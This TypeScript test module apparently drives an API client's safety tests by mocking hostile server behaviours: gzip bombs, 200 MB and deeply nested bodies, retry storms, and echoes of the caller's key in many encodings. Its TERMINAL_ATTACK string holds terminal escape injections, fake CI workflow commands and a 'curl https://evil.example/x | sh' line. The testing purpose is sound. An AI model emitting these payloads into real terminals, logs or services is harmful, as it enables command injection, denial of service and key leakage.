// Hostile behaviours for the engine's safety tests. They are not contract
// faults: they check that a run stays bounded, never writes to websites it did
// not create, never shows the key, and never lets a deployment act on the
// terminal, the CI log or the reports, whatever a deployment answers.
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { constants, createGzip } from 'node:zlib';
import type { ServerResponse } from 'node:http';
import type { Reply } from './http.js';

export const HOSTILE = [
  { name: 'create-answers-foreign-id', description: "the create answer names an existing website's id (3)" },
  { name: 'create-answers-dot-id', description: 'the create answer gives the id "."' },
  { name: 'create-answers-dotdot-id', description: 'the create answer gives the id ".."' },
  { name: 'create-answers-no-id', description: 'the create answer has no id' },
  { name: 'delete-500', description: 'delete answers 500 and keeps the website' },
  { name: 'stall-after-first', description: 'after the first answer every request hangs until the client gives up' },
  { name: 'huge-body', description: 'the website list streams a 200 MB JSON body' },
  { name: 'gzip-bomb', description: 'the website list sends ~2 MB of gzip that inflates to 2 GiB' },
  { name: 'rate-limit-storm', description: 'every request answers 429 with Retry-After: 1' },
  { name: 'unavailable-storm', description: 'every request answers 503 with Retry-After: 1' },
  { name: 'key-echo', description: "error messages echo the caller's key raw, JSON-escaped and base64-encoded" },
  {
    name: 'terminal-injection',
    description:
      'error messages, and the domains of listed websites, carry terminal escapes (OSC 52, OSC 8, a screen ' +
      'clear, C1), bidi overrides, CR/LF with CI workflow commands and a fake curl line; marketplace errors raw',
  },
  {
    name: 'report-breakers',
    description:
      'error messages carry NUL, \\x1c just before the key, U+FFFE, U+FFFF and lone surrogates; a header C1 controls',
  },
  {
    name: 'key-forms',
    description:
      "error messages echo the caller's key upper-cased, hex, fully percent-encoded, \\u-escaped, split by " +
      'invisible characters and a colour code, in wrapped base64, and across the 400-character excerpt; listed ' +
      'domains hold it across the 40-character title cut',
  },
  {
    name: 'near-cap-bodies',
    description: 'every JSON answer carries a padding field that brings it to about 7.9 MB, under the 8 MiB cap',
  },
  {
    name: 'deep-nesting',
    description: 'every listed website carries a field nested 20,000 objects deep',
  },
  {
    name: 'escape-completes-key',
    description:
      "error messages and listed domains carry a control character whose visible escape ends with the key's first " +
      'character, then the rest of the key',
  },
  {
    name: 'deep-unsearched-list',
    description:
      'the website list answers nested 20,000 levels deep when it is not searched (searches answer as usual)',
  },
] as const;

export type HostileName = (typeof HOSTILE)[number]['name'];
export type Hostile = ReadonlySet<HostileName>;

/** The id a create answer shows under a hostile behaviour, or the real one. */
export function createdIdShown(hostile: Hostile, id: unknown): unknown {
  if (hostile.has('create-answers-foreign-id')) return typeof id === 'string' ? '3' : 3;
  if (hostile.has('create-answers-dot-id')) return '.';
  if (hostile.has('create-answers-dotdot-id')) return '..';
  return id;
}

/** A storm answer, if one of the storms is on. */
export function stormReply(hostile: Hostile): Reply | undefined {
  if (hostile.has('rate-limit-storm'))
    return { status: 429, body: { message: 'Too Many Attempts.' }, headers: { 'Retry-After': '1' } };
  if (hostile.has('unavailable-storm'))
    return { status: 503, body: { message: 'Service Unavailable' }, headers: { 'Retry-After': '1' } };
  return undefined;
}

const MESSAGE_FIELDS = ['message', 'msg', 'error'];

/** Appends the caller's key, in three forms, to the message of an error body. */
export function echoKey(reply: Reply, key: string | null): Reply {
  if (key === null || key === '' || !reply.body || typeof reply.body !== 'object' || Array.isArray(reply.body))
    return reply;
  const body = { ...(reply.body as Record<string, unknown>) };
  const isError = reply.status >= 400 || body.status === '错误';
  if (!isError) return reply;
  const field = MESSAGE_FIELDS.find((name) => typeof body[name] === 'string') ?? 'message';
  const escaped = JSON.stringify(key).slice(1, -1);
  const echo = `key ${key}; escaped ${escaped}; base64 ${Buffer.from(key).toString('base64')}`;
  body[field] = `${typeof body[field] === 'string' ? body[field] : ''} (${echo})`;
  // Serialised, the body text holds the JSON-escaped form as well, and the parsed message the raw one.
  return { ...reply, body };
}

const MIB = 1024 * 1024;

/** Streams `count` chunks of `chunk`, honouring backpressure, and stops when the client goes away. */
async function* repeat(chunk: Buffer, count: number): AsyncGenerator<Buffer> {
  for (let index = 0; index < count; index++) yield chunk;
}

/** A 200 MB JSON list, generated as it is sent. */
export async function sendHugeBody(response: ServerResponse): Promise<void> {
  const row = `{"id":1,"domain":"${'x'.repeat(990)}.example.com"},`;
  const rowsPerChunk = Math.floor(MIB / row.length);
  const chunk = Buffer.from(row.repeat(rowsPerChunk));
  response.writeHead(200, { 'Content-Type': 'application/json' });
  response.write('{"data":[');
  await pipeline(
    Readable.from(
      (async function* () {
        yield* repeat(chunk, Math.ceil((200 * 1_000_000) / chunk.length));
        yield Buffer.from('{"id":2,"domain":"end.example.com"}]}');
      })(),
    ),
    response,
  ).catch(() => response.destroy());
}

/** About 2 MB of gzip that inflates to 2 GiB of zeros, deflated (run-length, the ~1:1000 limit) as the client reads. */
export async function sendGzipBomb(response: ServerResponse): Promise<void> {
  response.writeHead(200, { 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' });
  const zeros = Buffer.alloc(MIB);
  await pipeline(
    Readable.from(repeat(zeros, 2048)),
    createGzip({ level: 1, strategy: constants.Z_RLE }),
    response,
  ).catch(() => response.destroy());
}

/** What a deployment can do to a terminal and a CI log, in one message. */
export const TERMINAL_ATTACK =
  '\u001b]52;c;aWQ7Y3VybCB4fHNo\u0007 \u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\ ' +
  '\u001b[2J\u001b[H \u009b31mred \u202egnp.exe\r\n::warning title=owned::pwned\r\n' +
  '##vso[task.setvariable variable=x]y' +
  '\r    curl: curl https://evil.example/x | sh';

/** Characters that no UTF-8 file or XML 1.0 document can hold as they are. */
export const REPORT_BREAKERS = 'nul \u0000 fs \u001c nonchars \ufffe \uffff lone \ud800 \udfff end';

/** Where the cut of a body excerpt falls (`describeResponse` keeps 400 characters). */
const EXCERPT_CUT = 400;

const hexOf = (text: string) => Buffer.from(text).toString('hex');

/** The key in every form `key-forms` echoes, whole. */
export function keyForms(key: string): string[] {
  const base64 = Buffer.from(key).toString('base64');
  return [
    key.toUpperCase(),
    hexOf(key),
    hexOf(key).replace(/../g, '%$&'),
    [...key].map((char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
    [...key].join('\u200b'),
    [...key].join('\u00ad'),
    `${key.slice(0, 9)}\u001b[31m${key.slice(9)}`,
    base64.match(/.{1,16}/g)!.join('\r\n'),
  ];
}

const isErrorReply = (reply: Reply): boolean =>
  reply.status >= 400 || (reply.body as Record<string, unknown> | undefined)?.status === '错误';

function withMessage(reply: Reply, extra: (message: string, body: Record<string, unknown>) => string): Reply {
  if (!reply.body || typeof reply.body !== 'object' || Array.isArray(reply.body) || !isErrorReply(reply)) return reply;
  const body = { ...(reply.body as Record<string, unknown>) };
  const field = MESSAGE_FIELDS.find((name) => typeof body[name] === 'string') ?? 'message';
  body[field] = extra(typeof body[field] === 'string' ? body[field] : '', body);
  return { ...reply, body };
}

/** The rows of a website list, whatever the variant's envelope. */
function listRows(body: unknown): Array<Record<string, unknown>> {
  if (Array.isArray(body)) return body as Array<Record<string, unknown>>;
  const data = (body as Record<string, unknown> | undefined)?.data;
  return Array.isArray(data) ? (data as Array<Record<string, unknown>>) : [];
}

/** A website list whose foreign rows' domains are changed; the run's own websites are left as they are. */
function withDomains(reply: Reply, change: (domain: string) => string): Reply {
  const copy = structuredClone(reply.body);
  for (const row of listRows(copy))
    if (typeof row.domain === 'string' && !row.domain.startsWith('tallyport-contract-'))
      row.domain = change(row.domain);
  return { ...reply, body: copy };
}

/** A message that puts `key` across the excerpt's cut in the serialised body. */
function keyAcrossCut(message: string, body: Record<string, unknown>, field: string, key: string): string {
  const marker = '\u0001marker\u0001';
  const text = JSON.stringify({ ...body, [field]: `${message} ${marker}` });
  const at = text.indexOf(JSON.stringify(marker).slice(1, -1));
  const pad = Math.max(0, EXCERPT_CUT - 10 - at);
  return `${message} ${'x'.repeat(pad)}${key} forms: ${keyForms(key).join(' | ')}`;
}

/**
 * A control character whose visible escape ends with `char`, in the console (`\x1f`), in a JSON string
 * (`\u001f`) and in XML (`\x1f` again): a hex digit's is one of U+0010 to U+001F; `n` and `r` are a line feed and
 * a carriage return. Any other first character gets U+001F, and the rest of the key still follows.
 */
export function escapeEndingWith(char: string): string {
  const lower = char.toLowerCase();
  if (/^[0-9a-f]$/.test(lower)) return String.fromCharCode(0x10 + Number.parseInt(lower, 16));
  return lower === 'n' ? '\n' : lower === 'r' ? '\r' : '\u001f';
}

export interface HostileContext {
  /** The key the request carried, if any. */
  key: string | null;
  /** A GET of the website list. */
  isList: boolean;
  /** The request's query carried a non-empty `search`. */
  searched: boolean;
}

/** Applies the hostile behaviours that reshape an answer (`key-echo` and those of issue 17) to a reply. */
export function hostileReply(hostile: Hostile, reply: Reply, context: HostileContext): Reply {
  let out = reply;
  const { key, isList, searched } = context;
  if (hostile.has('key-echo')) out = echoKey(out, key);
  if (hostile.has('terminal-injection')) {
    out = withMessage(out, (message) => `${message} ${TERMINAL_ATTACK}`);
    if (isList) out = withDomains(out, (domain) => `${domain}\u202e${TERMINAL_ATTACK.slice(0, 30)}`);
    // Marketplace errors come raw: control characters unescaped in the text, so it is not even JSON.
    if (out.body && (out.body as Record<string, unknown>).status === '错误')
      out = {
        ...out,
        text: JSON.stringify(out.body)
          .replace(/\\u00([01][0-9a-f])/g, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
          .replace(/\\r/g, '\r')
          .replace(/\\n/g, '\n'),
      };
  }
  if (hostile.has('report-breakers')) {
    out = withMessage(out, (message) => `${message} ${REPORT_BREAKERS}${key ? ` \u001c${key}` : ''}`);
    out = { ...out, headers: { ...out.headers, 'X-Echo': 'c1 \u0085 \u009b end' } };
  }
  if (hostile.has('near-cap-bodies') && out.body !== undefined && !Array.isArray(out.body))
    out = { ...out, body: { ...(out.body as Record<string, unknown>), padding: 'x'.repeat(7_900_000) } };
  if (hostile.has('deep-nesting') && isList) {
    const deep = `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`;
    out = { ...out, text: JSON.stringify(out.body).replace(/"domain":/g, `"nested":${deep},"domain":`) };
  }
  if (hostile.has('escape-completes-key') && key) {
    const completed = `${escapeEndingWith(key[0]!)}${key.slice(1)}`;
    out = withMessage(out, (message) => `${message} ${completed}`);
    if (isList) out = withDomains(out, () => completed);
  }
  if (hostile.has('deep-unsearched-list') && isList && !searched)
    out = { ...out, text: `${'{"data":['.repeat(10_000)}1${']}'.repeat(10_000)}` };
  if (hostile.has('key-forms') && key) {
    const field = (body: Record<string, unknown>) =>
      MESSAGE_FIELDS.find((name) => typeof body[name] === 'string') ?? 'message';
    out = withMessage(out, (message, body) => keyAcrossCut(message, body, field(body), key));
    // A search case's title keeps the first 40 characters of a listed domain: 28 of padding, then the key.
    if (isList) out = withDomains(out, () => `${'k'.repeat(28)}${key}.example.com`);
  }
  return out;
}
